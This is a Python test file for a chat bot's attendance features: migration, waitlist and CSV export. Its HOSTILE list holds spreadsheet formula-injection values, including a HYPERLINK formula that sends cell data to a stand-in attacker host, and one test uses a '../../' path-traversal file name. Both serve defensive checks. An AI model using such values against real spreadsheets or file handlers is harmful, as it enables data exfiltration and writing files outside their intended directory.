"""The record's pieces one at a time (issue 15): its migration keeps an existing database, the text forms a
scenario does not reach through every platform."""

from __future__ import annotations

import codecs
import io
import sqlite3
from datetime import UTC, datetime, timedelta
from pathlib import Path

from circlebot.app import App
from circlebot.core.domain import ChannelRef, Invocation, UserRef
from circlebot.readings import load_collection
from circlebot.store import Database, Store
from circlebot.store.migrations import MIGRATIONS, sqlite_statements
from conftest import circle_config, make_settings
from drivers import CoreDriver, FakeClock, RecordingAdapter

RECORD = next(i for i, (what, _) in enumerate(MIGRATIONS) if what.startswith("the circle's record"))


async def test_the_record_migration_keeps_an_existing_database(tmp_path: Path) -> None:
    path = tmp_path / "old.sqlite3"
    with sqlite3.connect(path) as raw:  # a database at the version before the record's tables, with a meeting
        for version, (_, statements) in enumerate(MIGRATIONS[:RECORD], 1):
            for stmt in sqlite_statements(statements):
                raw.execute(stmt)
            raw.execute("CREATE TABLE IF NOT EXISTS schema_version (version INTEGER NOT NULL)")
            raw.execute("DELETE FROM schema_version")
            raw.execute("INSERT INTO schema_version VALUES (?)", (version,))
        raw.execute("INSERT INTO members (id, platform, user_id, name) VALUES (1, 'console', 'alice', 'alice')")
        raw.execute("INSERT INTO meetings (id, circle, starts_at, ends_at, reading, created_at) "
                    "VALUES (7, 'study', 'a', 'b', 'r', 'x')")
        raw.execute("INSERT INTO rsvps VALUES (7, 1, 'yes', 'x')")
    db = await Database.open(path)
    try:
        assert await db.version() == len(MIGRATIONS)
        assert [tuple(r) for r in await db.fetchall("SELECT meeting_id, member_id, answer FROM rsvps")] == [
            (7, 1, "yes")]
        assert await db.fetchall("SELECT * FROM reading_progress") == []
    finally:
        await db.close()


async def test_read_takes_a_meeting_number_in_place_of_the_answer(core: CoreDriver) -> None:
    await core.say("olga", "schedule bolivia-2003-first-balance-sheet")
    await core.say("olga", "schedule bolivia-2003-first-balance-sheet next")
    assert "you read part of it" in await core.say("alice", "read part 2")
    assert "meeting #2" in (shown := await core.say("alice", "read 2")) and "you read part of it" in shown, shown
    assert "you have not said" in await core.say("alice", "read #1")
    assert "there is no meeting #9" in (await core.say("alice", "read 9")).text.lower()
    both = await core.say("alice", "read 1 2")
    assert "before the meeting's number" in both and "Usage:" in both, both


async def test_a_yes_still_on_the_waitlist_is_no_no_show(tmp_path: Path, clock: FakeClock) -> None:
    """Issue 14's waitlist: a member who said yes but never got a place did not fail to come."""
    settings = make_settings(tmp_path, circles=[circle_config(syllabus=[], turnout={"capacity": 1})])
    store = Store(await Database.open(settings.database))
    store.batcher.start()
    try:
        app = App(settings, store, load_collection(settings.readings), clock)
        adapter = RecordingAdapter(settings.zone_of(settings.circles[0]))
        app.add_adapter(adapter)
        d = CoreDriver(app, adapter, clock, "study")
        await d.say("olga", "schedule bolivia-2003-first-balance-sheet")
        await d.say("alice", "rsvp yes")
        waiting = await d.say("bob", "rsvp yes")
        assert "waitlist" in waiting.text.lower(), waiting
        clock.advance(timedelta(days=3))  # meeting #1 is over; nobody came
        assert "1 no-show" in await d.say("alice", "attendance me")
        bob = await d.say("bob", "attendance me")
        assert "0 no-show" in bob and "absent (on the waitlist)" in bob, bob
    finally:
        await store.batcher.stop()
        await store.db.close()


HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A9)", "\tTAB",
           'comma, "quoted" name']


def test_the_csv_export_neutralises_formulas_and_names_the_zone(tmp_path: Path) -> None:
    """`circlebot export csv` (a real process) on a circle whose members have names a spreadsheet would run:
    every such cell starts with an apostrophe, the rest stays as it was; the file is UTF-8 with a BOM, ISO
    dates, the circle's zone named; --circle / --from / --to narrow it and a backwards range is refused."""
    import asyncio
    import csv
    import io
    import subprocess
    import sys

    settings = make_settings(tmp_path, circles=[circle_config(syllabus=[])])
    config = tmp_path / "circlebot.toml"
    config.write_text(f'database = "{settings.database}"\nreadings = "{settings.readings}"\n'
                      '[[circles]]\nslug = "study"\nname = "Test study circle"\ntimezone = "Europe/London"\n'
                      'meets = {weekdays = ["thursday"], time = "19:00"}\n', encoding="utf-8")
    clock = FakeClock(datetime(2026, 11, 24, 12, tzinfo=UTC))

    async def seed() -> None:
        store = Store(await Database.open(settings.database))
        store.batcher.start()
        try:
            app = App(settings, store, load_collection(settings.readings), clock)
            adapter = RecordingAdapter(settings.zone_of(settings.circles[0]))
            app.add_adapter(adapter)
            d = CoreDriver(app, adapter, clock, "study")
            await d.say("olga", "schedule bolivia-2003-first-balance-sheet 2026-11-26")
            await d.say("olga", "schedule bolivia-2003-first-balance-sheet 2026-12-03")
            for i, name in enumerate(HOSTILE):
                inv = Invocation(UserRef("console", f"u{i}", name), d.channel, clock.now(), text="rsvp yes 1")
                await app.dispatch(inv)
            await d.say("alice", "rsvp maybe 2")
        finally:
            await store.batcher.stop()
            await store.db.close()

    asyncio.run(seed())

    def export(*args: str) -> subprocess.CompletedProcess[bytes]:
        return subprocess.run([sys.executable, "-m", "circlebot", "export", "csv", "--config", str(config), *args],
                              capture_output=True, timeout=60)

    out = export()
    assert out.returncode == 0, out.stderr
    assert out.stdout.startswith(codecs.BOM_UTF8)
    text = out.stdout.decode("utf-8-sig")
    assert "\r\n" in text
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == len(HOSTILE) + 1
    names = [r["member"] for r in rows if r["meeting"] == "1"]
    assert sorted(names) == sorted("'" + n if n[0] in "=+-@\t" else n for n in HOSTILE), names
    for r in rows:
        for value in r.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), r
    assert {(r["date"], r["start"], r["zone"]) for r in rows} == {
        ("2026-11-26", "2026-11-26T19:00+00:00", "Europe/London"),
        ("2026-12-03", "2026-12-03T19:00+00:00", "Europe/London")}
    assert rows[0]["circle"] == "study" and rows[0]["platform"] == "console"

    december = list(csv.DictReader(io.StringIO(export("--from", "2026-12-01").stdout.decode("utf-8-sig"))))
    assert [(r["member"], r["RSVP"]) for r in december] == [("alice", "maybe")]
    november = list(csv.DictReader(io.StringIO(
        export("--circle", "study", "--to", "2026-11-30").stdout.decode("utf-8-sig"))))
    assert len(november) == len(HOSTILE)
    backwards = export("--from", "2026-12-01", "--to", "2026-11-01")
    assert backwards.returncode == 2 and b"before --from" in backwards.stderr
    unknown = export("--circle", "nope")
    assert unknown.returncode == 2 and b"no circle 'nope'" in unknown.stderr
    written = tmp_path / "record.csv"
    assert export("-o", str(written)).returncode == 0 and written.read_bytes() == out.stdout


async def test_the_console_writes_a_file_it_is_handed_and_shows_its_path(tmp_path: Path) -> None:
    from zoneinfo import ZoneInfo

    from circlebot.adapters.console import ConsoleAdapter
    from circlebot.core.domain import FileUpload, Post

    out = io.StringIO()
    console = ConsoleAdapter([("study", "Study", ZoneInfo("Europe/London"))], stdout=out, files_dir=tmp_path / "x")
    inv = Invocation(UserRef("console", "olga", "olga"), ChannelRef("console", "study"),
                     datetime(2026, 11, 24, tzinfo=UTC), text="attendance export")
    for _ in range(2):
        await console.send_file(inv, FileUpload("../../study-record.csv", b"a,b\r\n"), Post("Here it is."),
                                private=True)
    shown = out.getvalue()
    first, second = tmp_path / "x" / "study-record.csv", tmp_path / "x" / "study-record-2.csv"
    assert first.read_bytes() == second.read_bytes() == b"a,b\r\n"  # never over an existing file
    assert f"Written to {first.resolve()}" in shown and f"Written to {second.resolve()}" in shown, shown
    assert "(only olga sees this) Here it is." in shown
